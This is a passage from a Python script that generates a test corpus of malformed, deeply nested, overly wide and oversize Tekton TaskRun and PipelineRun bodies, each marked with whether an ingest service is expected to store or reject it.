        ("v1alpha1", lambda d: d.update(apiVersion="tekton.dev/v1alpha1"),
         ["unsupported apiVersion"], "tekton.dev/v1alpha1"),
        ("core-v1", lambda d: d.update(apiVersion="v1"), ["unsupported apiVersion"],
         "apiVersion v1"),
        ("other-group", lambda d: d.update(apiVersion="evil.example/v1"),
         ["unsupported apiVersion"], "another API group"),
        ("no-status", lambda d: d.pop("status"), ["has no status"], "never ran"),
    ]:  # fmt: skip
        c.add(cat, slug, mutated(tr, change), "reject", note, error=error)
    c.add(cat, "no-api-version", mutated(tr, lambda d: d.pop("apiVersion")), "store",
          "no apiVersion: read as v1")  # fmt: skip
    c.add(cat, "v1beta1", mutated(tr, lambda d: d.update(apiVersion="tekton.dev/v1beta1")),
          "store", "tekton.dev/v1beta1")  # fmt: skip
    c.add(
        cat,
        "list-of-lists",
        {"apiVersion": "v1", "kind": "List", "items": [
            {"apiVersion": "v1", "kind": "List", "items": [taskrun("lol-1", "run-1")]},
            {"apiVersion": "v1", "kind": "List", "items": [
                {"apiVersion": "v1", "kind": "List", "items": [taskrun("lol-2", "run-2")]}]},
        ]},
        "store",
        "Lists inside Lists are flattened",
    )  # fmt: skip
    c.add(
        cat,
        "json-array-of-lists",
        [pipeline("arr-1", "arr-1"), {"apiVersion": "v1", "kind": "List", "items": []}],
        "store",
        "a JSON array holding a List and an empty List",
    )
    c.add(cat, "empty-list", {"apiVersion": "v1", "kind": "List", "items": []}, "reject",
          "kind: List with no items", error=NO_OBJECTS)  # fmt: skip
    c.add(cat, "list-items-null", {"apiVersion": "v1", "kind": "List", "items": None}, "reject",
          "items null", error=["a List must have an `items` array"])  # fmt: skip
    c.add(cat, "list-no-items", {"apiVersion": "v1", "kind": "List"}, "reject",
          "no items key", error=["a List must have an `items` array"])  # fmt: skip
    c.add(
        cat,
        "list-of-empty-lists",
        {"kind": "List", "items": [{"kind": "List", "items": []}, {"kind": "List", "items": []}]},
        "reject",
        "Lists of empty Lists",
        error=NO_OBJECTS,
    )
    c.add(
        cat,
        "list-with-pod",
        {"kind": "List", "items": [taskrun("lp"), {"apiVersion": "v1", "kind": "Pod",
                                                   "metadata": {"name": "p"}}]},
        "reject",
        "a good TaskRun and a Pod: nothing is stored",
        error=NOT_TEKTON,
    )  # fmt: skip
    c.add(
        cat,
        "list-with-scalar",
        {"kind": "List", "items": [taskrun("ls"), "TaskRun"]},
        "reject",
        "a List item that is a string",
        error=["expected an object"],
    )
    c.add(
        cat,
        "list-one-bad-record",
        {"kind": "List", "items": [taskrun("lb1", "ok"), mutated(
            taskrun("lb2", "bad"), lambda d: d["status"].update(steps="x"))]},
        "reject",
        "one broken record rejects the whole List",
        error=["status.steps must be a list"],
    )  # fmt: skip
    c.add(
        cat,
        "podlist-of-taskruns",
        {"apiVersion": "v1", "kind": "PodList", "items": [taskrun("pl")]},
        "store",
        "a list kind named PodList that holds a TaskRun: the items are what count",
    )
    c.add(
        cat,
        "taskrunlist-with-pipelinerun",
        {"apiVersion": "tekton.dev/v1", "kind": "TaskRunList",
         "items": pipeline("trl")["items"]},
        "store",
        "a TaskRunList holding a PipelineRun and its TaskRuns",
    )  # fmt: skip
    c.add(
        cat,
        "same-uid-twice",
        {"kind": "List", "items": [taskrun("dup", "a"), taskrun("dup", "a")]},
        "store",
        "the same record twice in one body is stored once",
    )
    c.add(
        cat,
        "uid-kind-clash",
        {"kind": "List", "items": [taskrun("clash"), mutated(
            pipeline("x")["items"][0], lambda d: d["metadata"].update(uid=uid("clash")))]},
        "reject",
        "a TaskRun and a PipelineRun sharing one uid",
        error=["already stored as", "uid"],
    )  # fmt: skip
    c.add(
        cat,
        "yaml-multi-doc-pipeline",
        "".join("---\n" + yaml_dump(item) for item in pipeline("yml")["items"]),
        "store",
        "a PipelineRun and its TaskRuns as multi-document YAML",
        ext="yaml",
    )
    c.add(
        cat,
        "yaml-top-level-sequence",
        yaml_dump(pipeline("seq")["items"]),
        "store",
        "a top-level YAML sequence of records",
        ext="yaml",
    )
    c.add(
        cat,
        "children-without-parent",
        {"kind": "List", "items": pipeline("orphans")["items"][1:]},
        "store",
        "two child TaskRuns whose PipelineRun never came: waiting, with the reason",
        compute="waiting",
    )
    c.add(
        cat,
        "parent-without-children",
        pipeline("lonely")["items"][0],
        "store",
        "a PipelineRun whose TaskRuns never came: waiting, with the reason",
        compute="waiting",
    )
    return c


def _pipeline_with_task_name(seed: str, task: str) -> dict[str, Any]:
    """The base pipeline with its `build` pipeline task renamed everywhere it appears."""
    doc = pipeline(seed)
    pr, _, build = doc["items"]
    pr["status"]["pipelineSpec"]["tasks"][1]["name"] = task
    pr["status"]["childReferences"][1]["pipelineTaskName"] = task
    build["metadata"]["labels"]["tekton.dev/pipelineTask"] = task
    build["status"]["steps"][0]["name"] = task
    return doc


# ---------------------------------------------------------------------------------------------
# Generated bodies


def generated_body(recipe: dict[str, Any], max_bytes: int) -> tuple[bytes, str]:
    """The bytes for a ``*.gen.json`` descriptor, and the content type to send them with."""
    kind = recipe["generate"]
    if kind == "deep":
        return _deep(recipe)
    if kind == "nested-lists":
        levels = recipe["levels"]
        inner = _json(taskrun("nested-lists"))
        return b'{"kind":"List","items":[' * levels + inner + b"]}" * levels, "application/json"
    if kind == "wide" and recipe.get("syntax") == "yaml":
        tr = taskrun(f"wide-yaml-{recipe['field']}")
        assert recipe["field"] == "annotations"
        entries = "".join(f"    a{i}: v\n" for i in range(recipe["count"]))
        text = sub(yaml_dump(tr), "  annotations:\n", "  annotations:\n" + entries, 1)
        return text.encode(), "application/yaml"
    if kind == "wide":
        return _wide(recipe["field"], recipe["count"]), "application/json"
    if kind == "oversize":
        return _oversize(recipe["syntax"], max_bytes + recipe["over"])
    raise ValueError(f"unknown recipe {kind!r}")


def _json(doc: Any) -> bytes:
    # The stdlib encoder has no depth limit short of the recursion limit; build deep bodies
    # as text instead (see _deep).
    return json.dumps(doc, separators=(",", ":")).encode()


def _deep(recipe: dict[str, Any]) -> tuple[bytes, str]:
    levels = recipe["levels"]
    shape = recipe["shape"]
    if recipe["syntax"] == "json":
        if shape == "array":
            return b"[" * levels + b"]" * levels, "application/json"
        if shape == "object":
            return b'{"a":' * levels + b"1" + b"}" * levels, "application/json"
        # in-record: a valid TaskRun whose status.podName is a value nested `levels` deep;
        # in-spec: the same under spec.podTemplate, which the statement carries (runSpec).
        tr = taskrun(f"deep-{shape}-{levels}")
        if shape == "in-spec":
            tr["spec"]["podTemplate"] = "@@"
        else:
            tr["status"]["podName"] = "@@"
        nested = b"[" * (levels - 1) + b'"deep"' + b"]" * (levels - 1)
        return sub(_json(tr), b'"@@"', nested, 1), "application/json"
    if shape == "flow":
        text = "kind: TaskRun\nx: " + "[" * levels + "]" * levels + "\n"
    elif shape == "block":
        # Compact nested block sequences: "- - - ... x", one level per "- ".
        text = "kind: TaskRun\nx:\n" + "- " * levels + "x\n"
    else:
        text = "kind: TaskRun\nx: " + "{a: " * levels + "1" + "}" * levels + "\n"
    return text.encode(), "application/yaml"


def _wide(field: str, count: int) -> bytes:
    tr = taskrun(f"wide-{field}")
    if field == "results":
        tr["status"]["results"] += [{"name": f"r{i}", "value": "v"} for i in range(count)]
    elif field == "params":
        tr["spec"]["params"] += [{"name": f"p{i}", "value": "v"} for i in range(count)]
    elif field == "steps":
        tr["status"]["steps"] += [{"name": f"s{i}", "imageID": "i"} for i in range(count)]
    elif field == "labels":
        tr["metadata"]["labels"].update({f"l{i}": "v" for i in range(count)})
    elif field == "annotations":
        tr["metadata"]["annotations"].update({f"a{i}": "v" for i in range(count)})
    elif field == "conditions":
        tr["status"]["conditions"] += [{"type": f"T{i}", "status": "True"} for i in range(count)]
    elif field in ("childReferences", "pipelineTasks"):
        pr = pipeline(f"wide-{field}")["items"][0]
        pr["status"]["childReferences"] = pr["status"]["childReferences"][:0]
        if field == "childReferences":
            pr["status"]["childReferences"] += [
                {"kind": "TaskRun", "name": f"c{i}", "pipelineTaskName": f"t{i}"}
                for i in range(count)
            ]
        else:
            pr["status"]["pipelineSpec"]["tasks"] += [
                {"name": f"t{i}", "taskRef": {"name": "x"}} for i in range(count)
            ]
        return _json(pr)
    elif field == "emptyLists":
        return _json({"kind": "List", "items": [{"kind": "List", "items": []}] * count})
    elif field == "pods":
        return _json({"kind": "List", "items": [{"kind": "Pod", "metadata": {}}] * count})
    elif field == "emptyObjects":
        return _json([{}] * count)
    elif field == "taskruns":
        return _json({"kind": "List", "items": [taskrun(f"many-{i}", f"run-{i}")
                                                for i in range(count)]})  # fmt: skip
    else:
        raise ValueError(f"unknown field {field!r}")
    return _json(tr)


def _oversize(syntax: str, size: int) -> tuple[bytes, str]:
    if syntax == "garbage":
        return b"A" * size, "application/json"
    if syntax == "list":
        items = []
        total = 0
        while total <= size:
            item = taskrun(f"big-{len(items)}", f"run-{len(items)}")
            total += len(_json(item)) + 1
            items.append(item)
        body = _json({"kind": "List", "items": items})
        assert len(body) > size
        return body, "application/json"
    tr = taskrun(f"oversize-{syntax}")
    tr["metadata"]["annotations"]["padding"] = "x"
    if syntax == "json":
        empty = _json(tr)
        tr["metadata"]["annotations"]["padding"] = "x" * (1 + size - len(empty))
        body = _json(tr)
        ctype = "application/json"
    else:
        # Dumping a 10 MB scalar through PyYAML is slow: pad the dumped text instead.
        text = yaml_dump(tr)
        fill = "x" * (1 + size - len(text.encode()))
        body = sub(text, "padding: x\n", f"padding: {fill}\n", 1).encode()
        ctype = "application/yaml"
    assert len(body) == size, (len(body), size)
    return body, ctype


# ---------------------------------------------------------------------------------------------


def main() -> int:
    corpus = build()
    CASES.mkdir(exist_ok=True)
    for stale in CASES.iterdir():
        if stale.name not in corpus.files:
            stale.unlink()
    for name, data in sorted(corpus.files.items()):
        path = CASES / name
        if not path.exists() or path.read_bytes() != data:
            path.write_bytes(data)
    index = {
        "about": "Hostile ingest inputs: see make_corpus.py and docs/reliability.md.",
        "counts": _counts(corpus.cases),
        "cases": corpus.cases,
    }
    (HERE / "INDEX.json").write_text(json.dumps(index, indent=1, ensure_ascii=True) + "\n")
    total = sum(len(d) for d in corpus.files.values())
    print(f"wrote {len(corpus.cases)} cases ({total} bytes) to {CASES}", file=sys.stderr)
    return 0


def _counts(cases: list[dict[str, Any]]) -> dict[str, dict[str, int]]:
    counts: dict[str, dict[str, int]] = {}
    for case in cases:
        row = counts.setdefault(case["category"], {"reject": 0, "store": 0})
        row[case["expect"]] += 1
    return counts


if __name__ == "__main__":
    sys.exit(main())
